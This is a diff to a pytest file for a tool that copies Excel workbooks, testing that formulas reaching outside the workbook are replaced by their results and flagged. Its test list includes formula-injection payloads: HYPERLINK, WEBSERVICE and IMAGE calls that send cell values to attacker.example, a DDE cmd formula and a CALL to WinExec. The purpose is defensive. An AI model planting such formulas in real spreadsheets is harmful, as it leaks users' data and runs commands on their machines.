@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import hashlib
+import zipfile
 from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
@@ -99,8 +100,8 @@ def test_everything_typed_is_at_its_own_address_in_a_copy_however_it_was_laid_ou
 
 
 def test_a_page_knows_the_columns_the_heading_row_and_the_example_of_a_shuffled_sheet(tmp_path: Path) -> None:
-    copy = pages_of(write_grids(shuffled(small_book()), tmp_path / "mine.xlsx"))
-    costs = next(page for page in copy.pages if page.title == "Costs")
+    pages = pages_of(write_grids(shuffled(small_book()), tmp_path / "mine.xlsx"))
+    costs = next(page for page in pages if page.title == "Costs")
     assert costs.heading_row == 8
     assert costs.example == 9
     assert costs.columns["id"] == max(costs.columns.values())
@@ -161,18 +162,28 @@ def test_a_sum_over_the_workbooks_own_cells_stays_a_formula(tmp_path: Path) -> N
 REACHING_OUT = (
     '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
     '=WEBSERVICE("https://attacker.example")',
+    '=_xlfn.WEBSERVICE("https://attacker.example/"&B2)',
+    '=IF(1,_xlfn.IMAGE("https://attacker.example/x.png"),2)',
     "=cmd|'/c calc'!A0",
     "='[other.xlsx]Costs'!A1",
     "=[1]Costs!A1",
+    "=SUM('file:///C:/other.xlsx'#$Costs.A1)",
+    """=INDIRECT("'file:///C:/other.xlsx'#$Costs.A1")""",
+    '=CALL("kernel32","WinExec","JJC","calc",1)',
+    "=_xll.OurAddIn(A1)",
+    '=RTD("x.y",,"z")',
+)
+OF_THIS_WORKBOOK = (
     '=INDIRECT("A1")',
     "=Notes!A1",
     "=OurTotal*2",
-    "=Table1[Cost]",
-    '=CALL("kernel32","WinExec","JJC","calc",1)',
+    "=Table1[[#This Row],[Cost]]*2+Costs!A1",
     "=A1:INDEX(B:B,3)",
     "=SUM({1,2})",
-    "=Costs!A1:Risks!B2",
-    "=SUM(A1",
+    '=HYPERLINK("#Costs!A1","Go")',
+    '="see [1]Costs!A1 | cmd://"',
+    "=_xlfn.XLOOKUP(A1,B:B,C:C)",
+    "='A [draft'!A1",
 )
 
 
@@ -186,25 +197,41 @@ def test_formulas_that_reach_outside_give_way_to_their_results_and_are_said(tmp_
     assert {note.cell: note.found for note in added.notes} == {
         cell: f'the formula "{formula}"' for cell, (formula, _) in cells.items()
     }
+    costs = openpyxl.load_workbook(tmp_path / "copy.xlsx")["Costs"]
+    for cell, (formula, _) in cells.items():
+        assert formula in costs[cell].comment.text
 
 
-def test_a_formula_over_several_cells_at_once_gives_way_to_its_result(tmp_path: Path) -> None:
+def test_a_formula_over_the_workbook_itself_stays_whatever_it_is_made_of(tmp_path: Path) -> None:
+    cells = {f"AE{row}": (formula, float(row)) for row, formula in enumerate(OF_THIS_WORKBOOK, 2)}
+    source = with_costs(tmp_path / "mine.xlsx", cells)
+    added = copied(source, tmp_path / "copy.xlsx")
+    assert formulas_in(tmp_path / "copy.xlsx") == formulas_in(source)
+    assert added.notes == ()
+
+
+def test_a_formula_over_several_cells_at_once_stays(tmp_path: Path) -> None:
     typed = with_costs(tmp_path / "typed.xlsx", {"AE2": ("=SUM(F3:F4*2)", 7.0)})
     part = sheet_part(grids_of(small_book()), "Costs")
     together = in_part(part, b"<f>SUM", b'<f t="array" ref="AE2">SUM')
     source = repacked(typed, tmp_path / "mine.xlsx", together)
-    added = copied(source, tmp_path / "copy.xlsx")
-    assert formulas_in(source) == {("Costs", "AE2"): "={SUM(F3:F4*2)}"}
-    assert formulas_in(tmp_path / "copy.xlsx") == {}
-    assert cells_in(tmp_path / "copy.xlsx")["Costs", "AE2"] == 7.0
-    assert [note.cell for note in added.notes] == ["AE2"]
+    copied(source, tmp_path / "copy.xlsx")
+    assert formulas_in(tmp_path / "copy.xlsx") == formulas_in(source) == {("Costs", "AE2"): "={SUM(F3:F4*2)}"}
 
 
-def test_a_formula_on_a_sheet_of_ones_own_is_not_copied_and_the_sheet_is_listed(tmp_path: Path) -> None:
-    grids = grids_of(small_book()) | {"Workings": [["=A1", 3.0]], "Options 2": [["x"]]}
-    added = copied(write_grids(grids, tmp_path / "mine.xlsx"), tmp_path / "copy.xlsx")
-    assert "Workings" in added.left_out
-    assert "Workings" not in [grid.name for grid in workbook_grids(tmp_path / "copy.xlsx")]
+def test_a_sheet_of_ones_own_stays_to_the_byte_and_our_cells_go_on_taking_from_it(tmp_path: Path) -> None:
+    grids = grids_of(small_book()) | {"Workings": [["=A1", 3.0], [("=SUM(Costs!F2:F9)", 1.0)]]}
+    grids["Costs"].append([None] * 30 + [("=Workings!B1*2", 6.0)])
+    source = write_grids(grids, tmp_path / "mine.xlsx")
+    part = sheet_part(grids, "Workings")
+    for write in (
+        lambda: add_sheets(source, ["gates"], tmp_path / "copy.xlsx"),
+        lambda: write_marked(source, tmp_path / "copy.xlsx"),
+    ):
+        write()
+        with zipfile.ZipFile(source) as before, zipfile.ZipFile(tmp_path / "copy.xlsx") as after:
+            assert after.read(part) == before.read(part)
+        assert formulas_in(tmp_path / "copy.xlsx") == formulas_in(source)
 
 
 def test_a_formula_without_a_result_has_none_in_the_copy_and_an_error_stays_an_error(tmp_path: Path) -> None:
@@ -217,7 +244,7 @@ def test_a_formula_without_a_result_has_none_in_the_copy_and_an_error_stays_an_e
 
 
 def test_a_formula_that_reaches_outside_and_has_no_result_is_a_fault_in_the_copy_too(tmp_path: Path) -> None:
-    source = with_costs(tmp_path / "mine.xlsx", {"G3": ("=GONE()", "")})
+    source = with_costs(tmp_path / "mine.xlsx", {"G3": ("=_xll.GONE()", "")})
     copied(source, tmp_path / "copy.xlsx")
     (fault,) = examine(tmp_path / "copy.xlsx").faults
     assert (fault.cell, fault.code) == ("G3", "formula-error")
@@ -226,7 +253,7 @@ def test_a_formula_that_reaches_outside_and_has_no_result_is_a_fault_in_the_copy
 # What a spreadsheet shows otherwise.
 
 
-def test_merged_cells_are_parted_hidden_ones_shown_and_both_are_said(tmp_path: Path) -> None:
+def test_merged_and_hidden_cells_and_sheets_stay_so(tmp_path: Path) -> None:
     path = tmp_path / "mine.xlsx"
     write_grids(grids_of(small_book()), path)
     book = openpyxl.load_workbook(path)
@@ -239,29 +266,21 @@ def test_merged_cells_are_parted_hidden_ones_shown_and_both_are_said(tmp_path: P
     book.save(path)
     added = copied(path, tmp_path / "copy.xlsx")
     copy = openpyxl.load_workbook(tmp_path / "copy.xlsx")
-    assert not copy["Costs"].merged_cells.ranges
-    assert copy["Costs"]["AE2"].value == "two rows of notes"
-    assert not copy["Costs"].row_dimensions[3].hidden
-    assert copy["Risks"].sheet_state == "visible"
-    assert [str(note) for note in added.notes if note.sheet in ("Costs", "Risks")] == [
-        "Costs: hidden rows (3) are shown.",
-        "Costs: hidden columns (C) are shown.",
-        "Costs!AE2: the merged cells AE2:AF3 are apart, with what they show in the first.",
-        "Risks: the sheet was hidden and is shown.",
-    ]
+    assert [str(area) for area in copy["Costs"].merged_cells.ranges] == ["AE2:AF3"]
+    assert copy["Costs"].row_dimensions[3].hidden
+    assert copy["Costs"].column_dimensions["C"].hidden
+    assert copy["Risks"].sheet_state == "hidden"
+    assert added.notes == ()
 
 
-def test_dates_stay_dates_where_no_date_belongs_and_times_are_written_out(tmp_path: Path) -> None:
+def test_dates_stay_dates_where_no_date_belongs_and_times_stay_times(tmp_path: Path) -> None:
     source = with_costs(tmp_path / "mine.xlsx", {"B2": dt.date(2026, 5, 4), "G3": dt.date(2010, 11, 1)})
+    book = openpyxl.load_workbook(source)
+    book["Costs"]["AE2"] = dt.time(8, 30)
+    book.save(source)
     for write in (copied, write_marked):
         write(source, tmp_path / "copy.xlsx")
         assert lost(source, tmp_path / "copy.xlsx") == {}
-    book = openpyxl.load_workbook(source)
-    book["Costs"]["AE2"] = dt.time(8, 30)
-    book.save(tmp_path / "timed.xlsx")
-    added = copied(tmp_path / "timed.xlsx", tmp_path / "copy.xlsx")
-    assert cells_in(tmp_path / "copy.xlsx")["Costs", "AE2"] == "08:30:00"
-    assert [note.cell for note in added.notes] == ["AE2"]
 
 
 def test_a_number_that_lost_its_date_format_does_not_become_a_date_in_a_copy(tmp_path: Path) -> None:
